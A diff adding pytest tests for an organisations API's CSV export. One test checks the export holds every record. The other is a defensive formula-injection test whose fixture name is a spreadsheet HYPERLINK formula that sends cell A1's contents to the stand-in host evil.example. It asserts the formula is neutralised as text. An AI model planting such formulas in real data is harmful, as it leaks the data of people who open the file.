@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from coalition.members.tests.factories import OrganisationFactory, SeatFactory, SupporterFactory
@@ -57,3 +60,21 @@ def test_the_openapi_schema_describes_organisations(client):
     response = client.get("/api/schema/?format=json")
 
     assert "/api/v1/organisations/" in response.json()["paths"]
+
+
+def test_the_csv_download_holds_every_organisation_not_only_the_first_page(client):
+    OrganisationFactory.create_batch(101)
+
+    response = client.get("/api/v1/organisations/?format=csv")
+
+    assert len(response.text.strip().splitlines()) == 1 + 101
+
+
+def test_a_name_typed_as_a_formula_reaches_the_csv_as_text(client):
+    # An editor can rename their organisation; whoever opens the open-data CSV must not run it.
+    OrganisationFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', slug="formula", city="@SUM(1)")
+
+    row = list(csv.DictReader(io.StringIO(client.get("/api/v1/organisations/?format=csv").text.lstrip("\ufeff"))))[0]
+
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["city"] == "'@SUM(1)"
